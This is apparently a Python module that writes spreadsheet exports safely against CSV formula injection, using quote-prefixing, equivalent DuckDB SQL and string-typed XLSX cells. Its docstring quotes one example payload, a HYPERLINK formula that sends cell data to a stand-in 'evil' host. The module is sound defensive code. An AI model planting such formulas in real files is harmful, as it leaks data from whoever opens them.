"""Write tables that spreadsheets open safely: publisher text never becomes a live formula.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula by Excel, LibreOffice
and Google Sheets (CSV injection: `=HYPERLINK("http://evil/?d="&A2, ...)` runs when a journalist opens the file).
CSV gets OWASP's defence: such a text cell is prefixed with a single quote, unless it is a plain number. XLSX keeps
every text exactly and stores it as a string cell, never as a formula."""
from __future__ import annotations

import re
from collections.abc import Iterable
from pathlib import Path
from typing import TYPE_CHECKING, TextIO

if TYPE_CHECKING:  # pandas is imported where a frame is written: a command that writes none starts without it
    import pandas as pd

# The sheets of an XLSX export.
DATA_SHEET, SOURCES_SHEET = "data", "sources"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d[\d,]*(\.\d+)?|\.\d+)%?")


def neutralise(text: object) -> object:
    """A text cell as it can go into a CSV: `'` before one a spreadsheet would read as a formula."""
    if isinstance(text, str) and text.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_safe(df: pd.DataFrame) -> pd.DataFrame:
    """Every text column neutralised (numbers and dates untouched)."""
    import pandas as pd

    out = df.copy()
    for column in out.columns:
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column]):
            out[column] = out[column].map(neutralise)
    return out


def write_csv(df: pd.DataFrame, out: Path | TextIO | None = None) -> str | None:
    """The frame as CSV with formula-like text neutralised (to a path or stream; as a string when out is None)."""
    return csv_safe(df).to_csv(out, index=False)


# The same rules in SQL, for exports DuckDB writes in batches (a test holds them equal, byte for byte, to pandas'
# `to_csv` of `csv_safe`): `neutralise`, then the csv module's minimal quoting (a cell holding a comma, a quote or a
# line feed is quoted, its quotes doubled); a number as Python prints it; a missing value empty. Python's \d is any
# Unicode decimal digit, RE2's \p{Nd}.
_PLAIN_NUMBER_SQL = _PLAIN_NUMBER.pattern.replace(r"\d", r"\p{Nd}")
_FORMULA_CODES = ", ".join(str(ord(c)) for c in FORMULA_START)


def csv_cell_sql(column: str, number: bool = False) -> str:
    """SQL for a column's value as `write_csv` writes it, before quoting: a number as Python prints it, a text
    neutralised, a missing value empty."""
    if number:
        return f"CASE WHEN {column} IS NULL OR isnan({column}) THEN '' ELSE CAST({column} AS VARCHAR) END"
    return (f"CASE WHEN ascii({column}) IN ({_FORMULA_CODES}) AND NOT regexp_full_match({column}, "
            f"'{_PLAIN_NUMBER_SQL}') THEN '''' || {column} ELSE coalesce({column}, '') END")


def csv_lines_sql(relation: str, columns: list[str], numbers: set[str], order: list[str] = (),
                  plain: set[str] = frozenset()) -> str:
    """SQL for one column, `line`: each row of `relation` as `write_csv` writes it (line feed included), sorted by
    the `order` columns of `relation`. Values of the `plain` columns are known to need no neutralising or quoting
    (schema.Field.csv_plain), so they are written as they are."""
    cells = ", ".join(f"coalesce({c}, '') AS {c}" if c in plain else f"{csv_cell_sql(c, c in numbers)} AS {c}"
                      for c in columns)
    quote = '"'
    quoted = ", ".join(
        c if c in numbers or c in plain else
        f"CASE WHEN contains({c}, ',') OR contains({c}, '{quote}') OR contains({c}, chr(10)) "
        f"THEN '{quote}' || replace({c}, '{quote}', '{quote}{quote}') || '{quote}' ELSE {c} END" for c in columns)
    keys = "".join(f", {c} AS _key{n}" for n, c in enumerate(order))
    carried = "".join(f", _key{n}" for n in range(len(order)))
    return (f"SELECT line FROM (SELECT concat_ws(',', {quoted}) || chr(10) AS line{carried} FROM "
            f"(SELECT {cells}{keys} FROM ({relation})))"
            + (" ORDER BY " + ", ".join(f"_key{n}" for n in range(len(order))) if order else ""))


def write_xlsx(sheets: dict[str, Iterable[pd.DataFrame]], out: Path) -> None:
    """One sheet per entry, its rows given as frames (written as they come: openpyxl's write-only workbook keeps
    no sheet in memory); every text cell a string cell, so nothing a publisher printed can run as a formula."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    book = Workbook(write_only=True)
    for name, frames in sheets.items():
        sheet = book.create_sheet(name)
        header = False
        for df in frames:
            if not header:
                sheet.append(list(df.columns))
                header = True
            for row in df.astype(object).where(df.notna(), None).itertuples(index=False, name=None):
                sheet.append([_text_cell(sheet, v, WriteOnlyCell) if isinstance(v, str) and v.startswith("=") else v
                              for v in row])
    book.save(out)


def _text_cell(sheet, value: str, cell_type):
    cell = cell_type(sheet, value=value)
    cell.data_type = "s"  # openpyxl takes any text starting with '=' for a formula
    return cell
